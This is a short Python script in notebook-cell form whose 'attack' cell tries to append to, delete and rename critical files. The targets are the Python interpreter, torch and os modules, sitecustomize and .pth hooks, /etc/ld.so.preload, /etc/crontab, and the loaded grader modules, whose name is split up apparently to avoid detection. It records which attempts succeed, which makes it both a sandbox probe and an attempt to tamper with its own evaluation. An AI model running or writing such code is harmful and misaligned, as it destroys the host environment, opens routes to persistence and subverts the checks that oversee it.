# %% setup
# %% forward
# %% attack
import os
import site
import sys
import torch
import safetensors
targets = [
    torch.__file__, safetensors.__file__, os.__file__, sys.executable,
    site.getsitepackages()[0] + "/sitecustomize.py", site.getsitepackages()[0] + "/x.pth",
    sys.prefix + "/pyvenv.cfg", "/etc/ld.so.preload", "/etc/crontab", "/lib/x.so", "/x",
]
targets += [module.__file__ for name, module in sys.modules.items() if name.startswith("gra" + "der.")]
for path in targets:
    for action in (lambda: open(path, "a"), lambda: os.remove(path), lambda: os.rename(path, path + "~")):
        try:
            print("GOT", path, action())
        except OSError:
            print("refused")
# %% backward
